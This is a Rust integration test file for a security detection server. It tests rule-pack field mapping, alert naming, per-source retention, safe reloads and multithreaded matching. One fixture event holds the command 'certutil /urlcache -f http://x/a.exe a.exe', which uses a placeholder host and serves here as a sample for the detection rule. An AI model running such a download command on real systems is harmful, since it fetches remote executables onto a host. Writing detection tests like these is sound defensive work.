#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! The pack's event sources and rule folders in the server: rules come from the pack (no
//! `--rules`), a declared source's field mapping makes its events match, signals name the pack
//! Alert that references the rule, retention is per source, and a reload whose rules no longer
//! load keeps the plan in force. Real SQLite store, fixed clock.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use gatehouse_core::clock::FixedClock;
use gatehouse_core::events::{EventStore, NewEvent, Signal, SignalQuery};
use gatehouse_server::detection::{self, Detection, DetectionConfig};
use gatehouse_server::pack_state::{ReloadOutcome, ReloadTrigger, reload};
use gatehouse_server::{AppState, PackSource, prepare};
use gatehouse_store::{StoreConfig, open_with_events};
use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};

const LINUX_RULE: &str = "0b7e3c2a-4f1d-4c55-9a3e-7d1f2b6a9c01";
const CERTUTIL_RULE: &str = "5c1a9e7d-3b2f-4e8a-b6d4-2f9c8a1e0d42";

fn write_example_pack(dir: &Path) {
    for (name, text) in gatehouse_pack::example::files() {
        let path = dir.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    std::fs::write(
        dir.join("alert-on-linux-whoami.yaml"),
        include_str!("fixtures/event_sources/alert_on_linux_whoami.yaml"),
    )
    .unwrap();
}

fn event(source: &str, received_at: Timestamp, raw: &Value) -> NewEvent {
    NewEvent {
        source: source.into(),
        received_at,
        event_time: None,
        ecs: json!({}),
        raw: raw.to_string(),
    }
}

fn linux_whoami() -> Value {
    json!({"agent": {"type": "other"}, "proc": {"exe": "/usr/bin/whoami", "cmdline": "whoami"}})
}

fn certutil() -> Value {
    json!({"Event": {"System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"},
        "EventData": {"Image": "C:\\Windows\\System32\\certutil.exe",
                      "CommandLine": "certutil /urlcache -f http://x/a.exe a.exe"}}})
}

struct Running {
    _temp: tempfile::TempDir,
    pack_dir: std::path::PathBuf,
    state: AppState,
    events: Arc<dyn EventStore>,
    detection: Arc<Detection>,
    clock: Arc<FixedClock>,
    now: Timestamp,
}

async fn start(edit_pack: impl FnOnce(&Path)) -> Running {
    let temp = tempfile::tempdir().unwrap();
    let pack_dir = temp.path().join("pack");
    write_example_pack(&pack_dir);
    edit_pack(&pack_dir);
    let (store, events) = open_with_events(&StoreConfig::Sqlite {
        data_dir: temp.path().join("data"),
    })
    .await
    .unwrap();
    let now: Timestamp = "2026-06-01T00:00:00Z".parse().unwrap();
    let clock = Arc::new(FixedClock::new(now));
    let loaded = gatehouse_pack::load(&pack_dir).unwrap();
    assert!(
        !loaded.has_errors(),
        "{}",
        gatehouse_pack::render::text(&loaded.diagnostics, &loaded.sources)
    );
    let state = prepare(
        store,
        clock.clone(),
        PackSource::new(&pack_dir),
        loaded.pack,
    )
    .await
    .unwrap();
    let detection = detection::start(&state, Arc::clone(&events), DetectionConfig::default())
        .await
        .unwrap();
    Running {
        _temp: temp,
        pack_dir,
        state,
        events,
        detection,
        clock,
        now,
    }
}

async fn wait_cursor(r: &Running, id: i64) {
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while std::time::Instant::now() < deadline {
        if r.events
            .detection_cursor(detection::DETECTOR)
            .await
            .unwrap()
            >= id
        {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the detection cursor did not reach {id}");
}

async fn signals(r: &Running) -> Vec<Signal> {
    let mut all: Vec<Signal> = Vec::new();
    loop {
        let page = r
            .events
            .list_signals(&SignalQuery {
                limit: 100,
                after_id: all.last().map_or(0, |s| s.id),
                ..SignalQuery::default()
            })
            .await
            .unwrap();
        if page.is_empty() {
            return all;
        }
        all.extend(page);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn declared_source_mapping_makes_the_pack_rule_match_and_names_the_alert() {
    let r = start(|_| {}).await;
    let ids = r
        .events
        .append_events(&[
            // Same event twice: under a name no source declares (no mapping: `Image` is absent,
            // nothing matches), and under the declared source whose mapping binds proc.exe.
            event("misc", r.now, &linux_whoami()),
            event("linux-process", r.now, &linux_whoami()),
        ])
        .await
        .unwrap();
    r.detection.wake();
    wait_cursor(&r, ids[1]).await;
    let found = signals(&r).await;
    assert_eq!(found.len(), 1, "{found:?}");
    let s = &found[0].signal;
    assert_eq!(s.rule_id, LINUX_RULE);
    assert_eq!(s.event_id, ids[1]);
    assert_eq!(s.alerts, vec!["SEC-HIGH-001".to_owned()]);
    assert!(
        s.matched_fields
            .iter()
            .any(|f| f.field == "Image" && f.value == "/usr/bin/whoami"),
        "{s:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retention_per_source_purges_only_that_sources_old_events() {
    let r = start(|dir| {
        let path = dir.join("telemetry.yaml");
        let text = std::fs::read_to_string(&path).unwrap();
        // linux-process keeps events one day; windows 90 days; anything else 30 days.
        let text = text.replace(
            "  proc.user: User\nretention: 30d",
            "  proc.user: User\nretention: 1d",
        );
        assert!(text.contains("retention: 1d"));
        std::fs::write(path, text).unwrap();
    })
    .await;
    let old = r.now - SignedDuration::from_hours(48);
    let quiet = json!({"message": "nothing to see"});
    let ids = r
        .events
        .append_events(&[
            event("linux-process", old, &quiet),
            event("windows", old, &quiet),
            event("misc", old, &quiet),
            event("linux-process", r.now, &quiet),
        ])
        .await
        .unwrap();
    r.detection.wake();
    wait_cursor(&r, ids[3]).await;
    detection::enforce_retention(&r.state, &r.detection)
        .await
        .unwrap();
    let left: Vec<i64> = r
        .events
        .events_after(0, 10)
        .await
        .unwrap()
        .iter()
        .map(|e| e.id)
        .collect();
    assert_eq!(left, vec![ids[1], ids[2], ids[3]]);
    assert_eq!(
        r.detection.retention_of("windows"),
        SignedDuration::from_hours(90 * 24)
    );
    assert_eq!(
        r.detection.retention_of("misc"),
        SignedDuration::from_hours(30 * 24)
    );

    // 31 days on: the default 30 days purges "misc", windows' 90 days keeps its event.
    r.clock.advance(SignedDuration::from_hours(31 * 24));
    let purged = detection::enforce_retention(&r.state, &r.detection)
        .await
        .unwrap();
    assert_eq!(purged.get("misc"), Some(&1));
    assert_eq!(purged.get("windows"), None);
    assert_eq!(purged.get("linux-process"), Some(&1));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reload_with_a_broken_rule_keeps_the_plan_in_force() {
    let r = start(|_| {}).await;
    let before = r.detection.rules();
    assert_eq!(before.problems, 0);
    // Break the certutil rule (no Alert names it, so the pack itself still loads: the
    // finding is a warning).
    std::fs::write(
        r.pack_dir
            .join("rules/proc_creation_win_certutil_download.yml"),
        include_str!("fixtures/event_sources/rule_broken_modifier.yml"),
    )
    .unwrap();
    let outcome = reload(&r.state, "test", ReloadTrigger::Api).await;
    assert!(
        matches!(outcome, ReloadOutcome::Swapped { .. }),
        "{outcome:?}"
    );

    let ids = r
        .events
        .append_events(&[event("windows", r.now, &certutil())])
        .await
        .unwrap();
    r.detection.wake();
    wait_cursor(&r, ids[0]).await;
    let after = r.detection.rules();
    assert_eq!(
        after.pack_digest,
        r.state.pack().digest,
        "the reload was seen"
    );
    assert!(Arc::ptr_eq(&before.engine, &after.engine), "old plan kept");
    let found = signals(&r).await;
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].signal.rule_id, CERTUTIL_RULE);

    let audit = r.state.store().list_audit(0, 1000).await.unwrap();
    assert!(
        audit
            .iter()
            .any(|e| e.record.action == "rules.compile" && e.record.outcome.as_str() == "failed")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn batches_split_across_threads_signal_every_match_once_even_when_replayed() {
    let temp = tempfile::tempdir().unwrap();
    let pack_dir = temp.path().join("pack");
    write_example_pack(&pack_dir);
    let (store, events) = open_with_events(&StoreConfig::Sqlite {
        data_dir: temp.path().join("data"),
    })
    .await
    .unwrap();
    let now: Timestamp = "2026-06-01T00:00:00Z".parse().unwrap();
    let loaded = gatehouse_pack::load(&pack_dir).unwrap();
    let state = prepare(
        store,
        Arc::new(FixedClock::new(now)),
        PackSource::new(&pack_dir),
        loaded.pack,
    )
    .await
    .unwrap();
    let config = DetectionConfig {
        match_threads: 3,
        batch_size: 1000,
        ..DetectionConfig::default()
    };
    let quiet = json!({"message": "nothing to see"});
    let batch: Vec<NewEvent> = (0..600)
        .map(|i| {
            if i % 3 == 0 {
                event("windows", now, &certutil())
            } else {
                event("windows", now, &quiet)
            }
        })
        .collect();
    // Stored before the worker starts: its first batch holds all 600 (three ranges of 200).
    let ids = events.append_events(&batch).await.unwrap();
    let expected: Vec<i64> = ids.iter().step_by(3).copied().collect();
    let r = Running {
        detection: detection::start(&state, Arc::clone(&events), config.clone())
            .await
            .unwrap(),
        _temp: temp,
        pack_dir,
        state: state.clone(),
        events: Arc::clone(&events),
        clock: Arc::new(FixedClock::new(now)),
        now,
    };
    wait_cursor(&r, *ids.last().unwrap()).await;
    let mut got: Vec<i64> = signals(&r)
        .await
        .iter()
        .map(|s| s.signal.event_id)
        .collect();
    got.sort_unstable();
    assert_eq!(got, expected, "every match once, none skipped");

    // A crash after matching but with the cursor not moved: the batch is replayed by a new
    // worker and the store keeps one signal per (rule, event).
    events
        .record_detections(detection::DETECTOR, &[], 0)
        .await
        .unwrap();
    let replay = detection::start(&state, Arc::clone(&events), config)
        .await
        .unwrap();
    wait_cursor(&r, *ids.last().unwrap()).await;
    replay.wake();
    let mut again: Vec<i64> = signals(&r)
        .await
        .iter()
        .map(|s| s.signal.event_id)
        .collect();
    again.sort_unstable();
    assert_eq!(again, expected, "no duplicate after the replay");
}
